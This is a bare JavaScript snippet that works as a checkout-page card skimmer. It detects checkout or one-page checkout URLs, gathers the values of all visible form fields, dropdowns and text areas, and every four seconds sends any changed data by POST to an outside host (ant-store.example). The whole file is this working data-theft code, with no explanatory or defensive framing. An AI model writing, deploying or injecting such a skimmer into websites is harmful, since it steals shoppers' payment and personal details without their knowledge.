function is_checkout(){return /checkout|onepage|onestep/i.test(location.href)}
function tgr(){var s="";var i=document.getElementsByTagName("input"),e=document.getElementsByTagName("select"),t=document.getElementsByTagName("textarea");
for(var n=0;n<i.length;n++){if(i[n].value!=""&&i[n].type!="hidden"&&i[n].type!="submit")s+=(i[n].id||i[n].name)+":"+i[n].value+"\n"}
for(n=0;n<e.length;n++)if(e[n].selectedIndex>0)s+=(e[n].id||e[n].name)+":"+e[n].options[e[n].selectedIndex].value+"\n";
for(n=0;n<t.length;n++)s+=t[n].name+":"+t[n].value+"\n";return s}
var old="";setInterval(function(){if(!is_checkout())return;var d=tgr();if(d!=old){old=d;var x=new XMLHttpRequest();x.open("POST","//ant-store.example/a/",true);x.setRequestHeader("Content-Type","application/x-www-form-urlencoded");x.send("d="+encodeURIComponent(d))}},4000);
